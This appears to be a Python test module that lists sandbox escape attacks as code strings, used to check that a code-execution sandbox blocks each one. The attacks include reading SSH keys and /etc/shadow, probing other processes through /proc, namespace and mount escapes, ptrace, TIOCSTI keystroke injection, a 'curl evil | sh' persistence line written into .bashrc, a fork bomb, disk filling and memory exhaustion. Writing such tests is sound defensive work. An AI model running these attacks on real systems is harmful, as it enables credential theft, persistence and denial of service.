"""Attacks on the TIR sandbox: each escape a hostile test of the old sandbox found, as code.

Every attack prints "BREACH: ..." when something it must not do worked, and "DONE" once it
has tried everything (so an attack that died early cannot pass by accident). Its source is a
string.Template over the fields of tests/core/sandbox_world.World (the planted secrets,
sockets and the app's pid). Secrets all start with "SECRET-": none may ever appear in an
output.
"""

from __future__ import annotations

from dataclasses import dataclass, field

PRELUDE = """
import ctypes, errno, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def breach(what):
    print("BREACH:", what, flush=True)
"""


@dataclass(frozen=True)
class Attack:
    """One attack: its code (a string.Template over World's fields) and run_code arguments."""

    name: str
    source: str
    kwargs: dict[str, object] = field(default_factory=dict)
    finishes: bool = True  # prints DONE (the memory attacks may be killed instead)


ATTACKS = [
    Attack("read-user-files", """
for path in ["$home/Documents/secret.txt", "$home/.ssh/id_rsa", "$home/.bashrc",
             "$history", "/root/.bashrc", "/etc/shadow", "/etc/passwd"]:
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    if data:
        breach("read " + path)
        print(data[:200])
print("DONE")
"""),
    Attack("search-visible-files", """
skip = ("/proc", "/dev", "/sys", "/usr") + tuple($interpreter)
scanned = 0
needle = ("SECR" + "ET-").encode()  # not spelled out: this script is visible to itself
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if not os.path.join(top, d).startswith(skip)]
    for name in files:
        path = os.path.join(top, name)
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 4_000_000:
                if needle in open(path, "rb").read():
                    breach("found a secret in " + path)
        except OSError:
            pass
        scanned += 1
print("scanned", scanned)
print("DONE")
"""),
    Attack("app-data-inside-a-visible-folder", """
print("visible:", open("$portable/README").read().strip())
for path in ["$history", "$portable/data-real/data/history.sqlite3"]:
    try:
        if open(path, "rb").read():
            breach("read the history at " + path)
    except OSError:
        pass
print("DONE")
"""),
    Attack("app-process-and-its-fds", """
app = $app_pid
for path in [f"/proc/{app}/environ", f"/proc/{app}/cmdline", f"/proc/{app}/root/etc/hostname"]:
    try:
        open(path, "rb").read()
        breach("read " + path)
    except OSError:
        pass
for pid in ["1", str(app)]:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:  # never blocking: some are pipes
            handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
            data = os.read(handle, 1_000_000)
            os.close(handle)
        except OSError:
            continue
        if b"SECRET-" in data:
            breach(f"read a secret through /proc/{pid}/fd/{fd}")
try:
    os.kill(app, 0)
    breach("signalled the app")
except OSError:
    pass
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        if b"sandbox_world" in open(f"/proc/{pid}/cmdline", "rb").read() or (
            b"pytest" in open(f"/proc/{pid}/cmdline", "rb").read()):
            breach("sees the app's process " + pid)
    except OSError:
        pass
print("processes seen:", len([p for p in os.listdir("/proc") if p.isdigit()]))
print("DONE")
"""),
    Attack("api-key-in-environment", """
if "SECRET" in repr(dict(os.environ)):
    breach("the key is in the environment")
for pid in ["self", "1", "$app_pid"]:
    try:
        if b"SECRET" in open(f"/proc/{pid}/environ", "rb").read():
            breach("the key is in /proc/" + pid + "/environ")
    except OSError:
        pass
print("DONE")
"""),
    Attack("unmount-and-remount", """
for target in ["/proc", "/tmp", "/usr", "/", "$portable/data-real"]:
    if libc.umount2(target.encode(), 2) == 0:
        breach("unmounted " + target)
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    breach("mounted a tmpfs")
if libc.mount(b"/", b"/tmp", None, 4096, None) == 0:
    breach("bind-mounted /")
for flags in (0x10000000 | 0x00020000, 0x00020000, 0x40000000):
    if libc.unshare(flags) == 0:
        breach(f"unshare({flags:#x})")
print("DONE")
"""),
    Attack("setns-into-the-app-network", """
for path in ["/proc/$app_pid/ns/net", "/proc/1/ns/net", "/proc/$app_pid/ns/mnt"]:
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(fd, 0) == 0:
        breach("setns " + path)
for address in [("127.0.0.1", $tcp_port), ("::1", $tcp_port), ("10.255.255.1", 80)]:
    try:
        socket.create_connection(address, timeout=1).close()
        breach(f"connected to {address}")
    except OSError:
        pass
print("DONE")
"""),
    Attack("unix-sockets", """
for address in ["$unix_path", "\\0$abstract_name"]:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(address)
        breach("connected to " + repr(address))
    except OSError:
        pass
print("DONE")
"""),
    Attack("kernel-files-and-terminal", """
for path in ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
             "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/sys/kernel/uevent_helper"]:
    try:
        os.close(os.open(path, os.O_WRONLY))  # opened for writing; nothing is written
        breach("may write " + path)
    except OSError:
        pass
import fcntl, termios
for fd in (0, 1, 2):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        breach("pushed a keystroke into a terminal")
    except OSError:
        pass
try:
    os.close(os.open("/dev/tty", os.O_RDWR))
    breach("opened a terminal")
except OSError:
    pass
print("DONE")
"""),
    Attack("capabilities-and-privileges", """
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
for key in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    if int(status[key], 16):
        breach(f"{key} {status[key].strip()}")
if status["NoNewPrivs"].strip() != "1":
    breach("no_new_privs is off")
if status["Seccomp"].strip() != "2":
    breach("no seccomp filter")
print("uid", os.getuid(), "caps 0, no_new_privs, seccomp")
for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
    if libc.ptrace(request, 1, 0, 0) == 0:
        breach("ptrace of pid 1")
if libc.personality(0x0040000) != -1:  # ADDR_NO_RANDOMIZE
    breach("personality")
print("DONE")
"""),
    Attack("writes-that-would-persist", """
targets = ["$home/.bashrc", "$home/.local/share/applications/evil.desktop",
           os.path.expanduser("~/.bashrc"),
           os.path.expanduser("~/.local/share/applications/evil.desktop")]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as f:
            f.write("curl evil | sh  # $token\\n")
        print("wrote", path)  # its own home is fine; the host's is checked afterwards
    except OSError:
        pass
print("DONE")
"""),
    Attack("fill-the-disk", """
chunk = b"0" * (1 << 20)
for folder in ["/tmp", "/var/tmp", "/dev/shm", "$base", "$home", os.getcwd()]:
    written = 0
    try:
        for part in range(45):
            with open(os.path.join(folder, f"evil-$token-{part}.bin"), "wb") as f:
                for _ in range(4):
                    f.write(chunk)
                    written += 1
    except OSError:
        pass
    print("WROTE", folder, written)
print("DONE")
""", {"timeout": 20}),
    Attack("a-process-left-running", """
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            sleep = "import time; time.sleep(60)"
            os.execv(sys.executable, [sys.executable, "-c", sleep, "$token"])
        os._exit(0)
    time.sleep(0.5)
    print("spawned")
except OSError as exc:
    print("fork refused:", exc.errno)
print("DONE")
""", {"timeout": 10}),
    Attack("fork-flood", """
forks = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(3)
        os._exit(0)
    forks += 1
print("FORKS", forks)
print("DONE")
""", {"timeout": 10, "max_processes": 16}),
    Attack("fork-bomb", """
end = time.monotonic() + 30
while time.monotonic() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
""", {"timeout": 2, "max_processes": 16}, finishes=False),
    Attack("memory-across-processes", """
held = 0
children = []
for _ in range(8):
    try:
        pid = os.fork()
    except OSError as exc:
        print("fork refused:", exc.errno)
        break
    if pid == 0:
        try:
            block = b"x" * (900 << 20)  # touched, not just reserved
            print("HELD", flush=True)
            time.sleep(2)
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
print("DONE")
""", {"timeout": 30, "memory_mb": 1024}, finishes=False),
    Attack("memory-in-one-process", """
blocks = []
try:
    for _ in range(8):
        blocks.append(b"x" * (900 << 20))
        print("HELD", flush=True)
except MemoryError:
    print("MemoryError")
print("DONE")
""", {"timeout": 30, "memory_mb": 1024}, finishes=False),
    Attack("forge-the-protections-report", """
forged = b'{"tool": "forged", "seccomp": true, "forged": true}\\n'
for fd in range(3, 256):
    try:
        os.write(fd, forged)
    except OSError:
        pass
for pid in ["1", "$app_pid"]:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:  # never blocking: a pipe with no reader would wait forever
            handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
            os.write(handle, forged)
            os.close(handle)
        except OSError:
            pass
print("DONE")
"""),
]  # fmt: skip
